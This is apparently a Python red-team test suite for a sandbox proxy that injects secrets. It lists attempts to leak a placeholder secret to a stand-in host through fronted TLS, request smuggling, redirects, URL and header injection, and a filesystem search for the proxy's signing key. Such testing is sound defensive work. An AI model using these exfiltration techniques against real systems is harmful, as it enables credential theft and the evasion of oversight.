"""The placeholder of a secret that the session was granted: it is put in where it may be, and nowhere else.
`allowed.test` is the host that the secret may go to, over TLS."""

from __future__ import annotations

import contextlib
import os

from corral.redteam.inside.attempt import Attempt
from corral.redteam.inside.box import Box, line_of, status_of
from corral.redteam.inside.ends import Held, Untried, Won
from corral.redteam.inside.granted import asked, opened_tls, placeholder, request
from corral.redteam.inside.means import Tries

_WATCHED = ("secret-elsewhere", "secret-in-url")


def _says(said: str, *, host: str = "allowed.test", port: str = "secure_port") -> Tries:
    """Whether the secret went where it must not, is seen outside; whether it came back, in here."""

    def tries(box: Box) -> None:
        answer = asked(box, said, host=host, port=port)
        box.note(f"answered: {line_of(answer) or 'nothing'}")

    return tries


def _in_clear(said: str) -> Tries:
    """To the proxy in clear text."""

    def tries(box: Box) -> None:
        answer = box.say(box.fill(said.replace("$PH", placeholder(box))).encode("latin-1"))
        box.note(f"answered: {line_of(answer) or 'nothing'}")

    return tries


def _fronted(box: Box) -> None:
    """TLS for the host that may have it, and in it a request for another one."""
    foreign = f"foreign.test:{box['secure_port']}"
    said = f"GET /as/plain HTTP/1.1\r\nHost: {foreign}\r\nX-Echo: $PH\r\nConnection: close\r\n\r\n"
    answer = asked(box, said)
    if status_of(answer) == 200:
        raise Won("a request for another host was taken")
    box.note(f"answered: {line_of(answer) or 'nothing'}")


def _named_otherwise(box: Box) -> None:
    """A tunnel to another host, TLS for the one that may have it."""
    placeholder(box)
    with opened_tls(box, "foreign.test", "foreign_secure_port", named="allowed.test") as end:
        end.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        if box.heard(end):
            raise Won("a server answered")
    box.note("nobody answered")


def _redirected(box: Box) -> None:
    """The host sends us to another one, with the secret in the address; and we go, with the header kept."""
    answer = asked(box, request("/as/location", "X-Echo: $PH\r\nAuthorization: Bearer $PH\r\n"))
    if status_of(answer) != 302:
        raise Untried(f"the host did not redirect: {line_of(answer)}")
    place = next(line for line in answer.split(b"\r\n") if line.lower().startswith(b"location:"))
    path = "/" + place.partition(b"://")[2].partition(b"/")[2].decode("latin-1")
    kept = f"GET {path} HTTP/1.1\r\nHost: foreign.test:{box['foreign_secure_port']}\r\n"
    kept += "Authorization: Bearer $PH\r\nConnection: close\r\n\r\n"
    with contextlib.suppress(Held):
        asked(box, kept, host="foreign.test", port="foreign_secure_port")
    box.note("the other host got the placeholder")


def _authority_key(box: Box) -> None:
    """The key by which the proxy signs certificates, which would open all of the sandbox's TLS."""
    looked = 0
    for folder in ("/run", "/etc/ssl", "/tmp", os.getcwd()):
        for place, _, names in os.walk(folder):
            for name in names:
                with contextlib.suppress(OSError):
                    looked += 1
                    if b"PRIVATE " + b"KEY" in box.read(os.path.join(place, name), bytes_max=1 << 20):
                        raise Won(f"a private key in {os.path.join(place, name)}")
    box.note(f"{looked} files, and no key among them")


def _environment(box: Box) -> None:
    value = placeholder(box)
    box.look(value.encode())
    if not value.startswith("corral_ph_"):
        raise Won("the variable is no placeholder")
    box.note("the variable is a placeholder")


_GET = "X-Echo: $PH\r\n"
_BEARER, _LENGTH = "Authorization: Bearer $PH\r\n", "Content-Length: 42\r\n"


def _plain(method: str, host: str, port: str, headers: str, body: str = "") -> str:
    where = f"{host}:{{{port}}}"
    head = f"{method} http://{where}/echo HTTP/1.1\r\nHost: {where}\r\nConnection: close\r\n"
    return f"{head}{headers}\r\n{body}"


def _tunnel(where: str, headers: str = "") -> str:
    return f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n{headers}\r\n"


def _elsewhere(method: str, host: str, headers: str, body: str = "") -> str:
    return f"{method} /echo HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}\r\n{body}"


ATTEMPTS: dict[str, list[Attempt]] = {
    "placeholder": [
        Attempt("environment", "finds the secret where it finds the placeholder", _environment),
        *(
            Attempt(name, title, _says(said), watches=_WATCHED)
            for name, title, said in (
                ("path", "has it put into the path of a URL", request("/$PH/bytes")),
                ("query", "has it put into the query of a URL", request("/bytes/1?token=$PH")),
                ("escaped", "escapes the placeholder in a URL", request("/bytes/1?token=%63orral_ph_$PH")),
                ("method", "has it put into the method", request("/bytes/1", method="$PH")),
                ("name", "has it put into the name of a header", request("/bytes/1", "$PH: x\r\n")),
                ("host", "has it put into the Host header", "GET / HTTP/1.1\r\nHost: $PH\r\n\r\n"),
                (
                    "url",
                    "asks for a whole URL on a connection to one host",
                    request("https://foreign.test/$PH", _GET),
                ),
                (
                    "gzip",
                    "says that a body is packed",
                    request("/echo", "Content-Encoding: gzip\r\n", "a=$PH", method="POST"),
                ),
                (
                    "tunnel",
                    "opens a tunnel in it",
                    request("foreign.test:{foreign_port}", method="CONNECT"),
                ),
            )
        ),
        *(
            Attempt(name, title, _in_clear(said), watches=_WATCHED)
            for name, title, said in (
                (
                    "clear",
                    "has it sent in clear text",
                    _plain("GET", "allowed.test", "allowed_port", _GET),
                ),
                (
                    "clear-body",
                    "has it sent in a body in clear text",
                    _plain("POST", "allowed.test", "allowed_port", _LENGTH, "$PH"),
                ),
                (
                    "proxy",
                    "has it put into what it says to the proxy",
                    _tunnel("allowed.test:{secure_port}", "Proxy-Authorization: Bearer $PH\r\n"),
                ),
                (
                    "label",
                    "has it put into a name",
                    _tunnel("$PH.tunnel.test:443"),
                ),
            )
        ),
        *(
            Attempt(
                name,
                title,
                _says(said, host="foreign.test", port="foreign_secure_port"),
                networking="unrestricted",
                watches=_WATCHED,
            )
            for name, title, said in (
                (
                    "elsewhere",
                    "sends it to a host that the credential does not name",
                    _elsewhere("GET", "foreign.test:{foreign_secure_port}", _BEARER),
                ),
                (
                    "elsewhere-body",
                    "sends it there in a body",
                    _elsewhere("POST", "foreign.test:{foreign_secure_port}", _LENGTH, "$PH"),
                ),
                (
                    "elsewhere-named",
                    "sends it there, with the name of the other host",
                    _elsewhere("GET", "allowed.test", _BEARER),
                ),
            )
        ),
        Attempt(
            "fronted",
            "hides a request for another host in TLS for the right one",
            _fronted,
            watches=_WATCHED,
        ),
        Attempt(
            "named",
            "asks another host in TLS for the right one",
            _named_otherwise,
            networking="unrestricted",
            watches=_WATCHED,
        ),
        Attempt(
            "smuggled",
            "hides a second request in the first",
            _says(
                request("/bytes/1", "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", method="POST")
                + "0\r\n\r\nGET /$PH HTTP/1.1\r\nHost: foreign.test\r\n\r\n"
            ),
            watches=_WATCHED,
        ),
        Attempt("authority", "finds the key that signs for the proxy", _authority_key),
    ],
    "redirects": [
        Attempt(
            "secret",
            "is sent elsewhere with the secret in the address",
            _redirected,
            networking="unrestricted",
            watches=_WATCHED,
        )
    ],
}
